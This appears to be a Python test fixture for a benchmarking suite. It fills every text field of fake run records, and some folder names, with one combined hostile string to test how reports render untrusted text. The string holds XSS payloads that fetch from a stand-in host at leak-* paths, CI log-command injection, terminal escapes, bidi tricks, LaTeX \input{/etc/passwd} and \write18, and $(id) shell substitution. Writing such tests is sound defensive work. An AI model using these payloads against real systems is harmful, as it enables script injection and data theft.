"""Text that attacks whatever shows it, and results folders with it in every field that takes
text.
"""

import json
from pathlib import Path
from typing import Any

from helpers import made_records
from hpml_bench.records.files import RECORD
from hpml_bench.records.run import Check, RunError, RunRecord
from hpml_bench.suite.settings import DatasetSpec, Digests, MethodSpec

OWNED = "owned-by-the-data"
LONG = "A" * 1_000_000


def attack(site: str = "http://203.0.113.1") -> str:
    """Return one text that tries everything at once; what it loads it would load from `site`."""
    script = f"document.title='{OWNED}';fetch('{site}/leak-script')"
    return "".join(
        [
            f"</title></style></script><script>{script}</script>",
            f"<img src='{site}/leak-img' onerror=\"{script}\">",
            f'"><svg onload="{script}"><use href=\'{site}/leak-use#x\'/></svg>',
            f"' onmouseover='{script}' x='",
            (
                f"<iframe src='{site}/leak-frame'></iframe><link rel=stylesheet "
                f"href='{site}/leak-css'>"
            ),
            f"<meta http-equiv=refresh content='0;url={site}/leak-refresh'><base href='{site}/'>",
            (
                f"<form action='{site}/leak-form'><button autofocus "
                f'onfocus="{script}">b</button></form>'
            ),
            (
                f"]]>--><!-- ]]> [link](javascript:{script}) ![image]({site}/leak-md) "
                f"<{site}/leak-auto>"
            ),
            f"\n[r]: {site}/leak-ref\n",
            f" {site}/leak-bare www.example.org me@example.org @someone #1 ",
            "| a | b |\n\n# heading\n\n```\ncode\n```\n\n<details>\n- item\n> quote\n---\n~~~\n",
            "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m\x1b]8;;http://203.0.113.1\x1b\\link\x1b]8;;\x1b\\\x08\x7f\r",
            f"\n::error::{OWNED}\n%0A::error::{OWNED} ##[error]{OWNED} ::set-output name=x::y",
            f"\u2028::warning::{OWNED}\u2029",
            "\u202etxt.exe\u2066x\u2069\u200f\u061c\u200b\ufeff",
            (
                r" $x^2$ $\frac{ \input{/etc/passwd} \write18{id} {{7*7}} {% raw %} ${HOME} `id` "
                r"$(id) & % _x_ *y* ~z~ \ "
            ),
            "\x00 \ufffe \U000e0001 =1+1",
        ]
    )


def records(evil: str) -> list[RunRecord]:
    """Return sound, failed and set-apart runs in which every text field attacks."""
    titled = {"title": evil, "definition": evil}
    definitions = tuple(
        metric.model_copy(update=titled | ({"unit": evil} if metric.unit == "MB" else {}))
        for metric in made_records.DEFINITIONS
    )
    dataset = DatasetSpec(name=evil, options={evil: evil})
    odd: dict[str, Any] = {
        "suite": evil,
        "definitions": definitions,
        "notes": {evil: evil, "best possible accuracy": evil},
        "label_names": (evil, LONG, "\x00", "\u202e"),
        "environment": {
            evil: [evil],
            "packages": {"hpml-bench": evil, "torch": evil},
            "process": {evil: LONG},
        },
        "protocol_id": evil,
        "digests": Digests(weights=evil, tokenizer=evil, data=evil, revision=evil),
        "checks": (Check(name=evil, passed=True, detail=evil),),
        "started": evil[:12] + "\x1b[31m\u202e",
        "settings": made_records.SETTINGS.model_copy(
            update={"backbone": f"path:{evil}", "dataset": dataset}
        ),
    }
    made = made_records.sweep(["lora", "full", "head"], 3, **odd)
    for seed in (
        0,
        1,
    ):  # one name, two specifications: its options become part of what the report calls it
        other = MethodSpec(name="lora", method="lora", options={evil: evil, "r": evil}, lr=1e-3)
        made.append(made_records.record("lora", seed, 40 + seed, method_spec=other, **odd))
    error = RunError(kind=evil, message=evil, rank=0, traceback=evil)
    made += [
        made_records.failed(name, 9, "failed", evil, **odd | {"error": error})
        for name in ("lora", "lt", "amp")
    ]
    made.append(made_records.failed("adapter", 9, "killed", LONG, **odd))
    failing = {"checks": (Check(name=evil, passed=False, detail=evil),)}
    made.append(made_records.record("full", 8, **odd | failing))
    made.append(
        made_records.record(
            "head", 7, **odd | {"protocol_id": "other", "digests": made_records.DIGESTS}
        )
    )
    return made


def folder(place: Path, evil: str) -> Path:
    """Write such a results folder, with damaged records in folders of hostile names beside it."""
    made_records.write(place, records(evil))
    name = "\x1b[31m<img src=x onerror=alert(1)>\n::error::x \u202e$x$|"
    (place / name).mkdir()
    (place / name / RECORD).write_text(json.dumps({"schema_version": evil}))
    return place
